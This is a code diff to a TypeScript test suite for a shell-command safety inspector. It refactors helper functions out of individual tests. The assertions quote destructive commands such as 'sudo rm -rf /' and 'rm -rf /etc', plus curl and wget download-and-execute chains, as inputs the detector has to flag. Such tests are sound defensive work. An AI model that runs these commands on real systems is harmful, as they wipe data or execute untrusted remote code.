@@ -33,6 +33,15 @@ const table = readCases(new URL('./shell-cases.jsonl', import.meta.url));
 
 interface Miss { command: string; expect: Decision; got: Decision; missing: string; findings: string }
 
+/** The first finding of `kind` for `cmd`, its detail, and the text its span covers. */
+const find = (cmd: string, kind: string) => inspectShell(cmd).find((f) => f.kind === kind);
+const detail = (cmd: string, kind: string) => find(cmd, kind)?.detail;
+function at(cmd: string, kind: string): string {
+  const f = find(cmd, kind);
+  assert.ok(f?.span, `${kind} with a span for ${cmd}: ${JSON.stringify(inspectShell(cmd))}`);
+  return cmd.slice(f.span.start, f.span.end);
+}
+
 function missTable(misses: readonly Miss[]): string {
   const rows = misses.map((m) => `  ${JSON.stringify(m.command).slice(0, 60).padEnd(60)} expect ${m.expect.padEnd(6)} got ${m.got.padEnd(6)} ${m.missing ? `missing ${m.missing} ` : ''}| ${m.findings}`);
   return `${misses.length} miss(es):\n${rows.join('\n')}`;
@@ -93,7 +102,6 @@ test('shell.command findings name each harmless command, with the wrappers that 
 });
 
 test('details name the command, the target and the unwrapping', () => {
-  const detail = (cmd: string, kind: string) => inspectShell(cmd).find((f) => f.kind === kind)?.detail;
   assert.equal(detail('sudo rm -rf /', 'shell.destructive'), 'rm -rf on / (after unwrapping sudo)');
   assert.equal(detail('timeout 5 nice -n 10 nohup rm -rf /etc', 'shell.destructive'), 'rm -rf on system path /etc (after unwrapping timeout, nice, nohup)');
   assert.equal(detail("bash -c 'rm -rf ~'", 'shell.destructive'), 'rm -rf on home path ~ (after unwrapping bash -c)');
@@ -105,11 +113,6 @@ test('details name the command, the target and the unwrapping', () => {
 });
 
 test('spans point into the original command, through quotes and nesting', () => {
-  const at = (cmd: string, kind: string) => {
-    const f = inspectShell(cmd).find((x) => x.kind === kind);
-    assert.ok(f?.span, `${kind} with a span for ${cmd}`);
-    return cmd.slice(f.span.start, f.span.end);
-  };
   assert.equal(at('sudo rm -rf /', 'shell.destructive'), '/');
   assert.equal(at("bash -c 'rm -rf /etc'", 'shell.destructive'), '/etc');
   assert.equal(at('sh -c "bash -c \'rm -rf /srv\'"', 'shell.destructive'), '/srv');
@@ -166,12 +169,6 @@ test('limits: time budget, nesting depth, commands and findings each end in one 
 });
 
 test('the symbolic evaluation: details name the resolved target, and spans point at the word that holds it', () => {
-  const find = (cmd: string, kind: string) => inspectShell(cmd).find((f) => f.kind === kind);
-  const at = (cmd: string, kind: string) => {
-    const f = find(cmd, kind);
-    assert.ok(f?.span, `${kind} with a span for ${cmd}: ${JSON.stringify(inspectShell(cmd))}`);
-    return cmd.slice(f.span.start, f.span.end);
-  };
   assert.equal(find('d=/; rm -rf $d', 'shell.destructive')?.detail, 'rm -rf on /');
   assert.equal(at('d=/; rm -rf $d', 'shell.destructive'), '$d');
   assert.equal(find('cd /etc && rm -rf *', 'shell.destructive')?.detail, 'rm -rf on system path /etc/*');
@@ -191,7 +188,6 @@ test('the symbolic evaluation: details name the resolved target, and spans point
 });
 
 test('new finding kinds: remote code, reverse shells, escapes, with their details', () => {
-  const detail = (cmd: string, kind: string) => inspectShell(cmd).find((f) => f.kind === kind)?.detail;
   assert.equal(detail('curl -o /tmp/i.sh https://x && sh /tmp/i.sh', 'shell.remote_code'), 'sh runs /tmp/i.sh, which curl downloaded');
   assert.equal(detail('cd /tmp && wget https://x/a.sh && bash ./a.sh', 'shell.remote_code'), 'bash runs ./a.sh, which wget downloaded');
   assert.equal(detail('curl -o x https://x && chmod +x x && ./x', 'shell.remote_code'), 'it runs ./x, which curl downloaded');
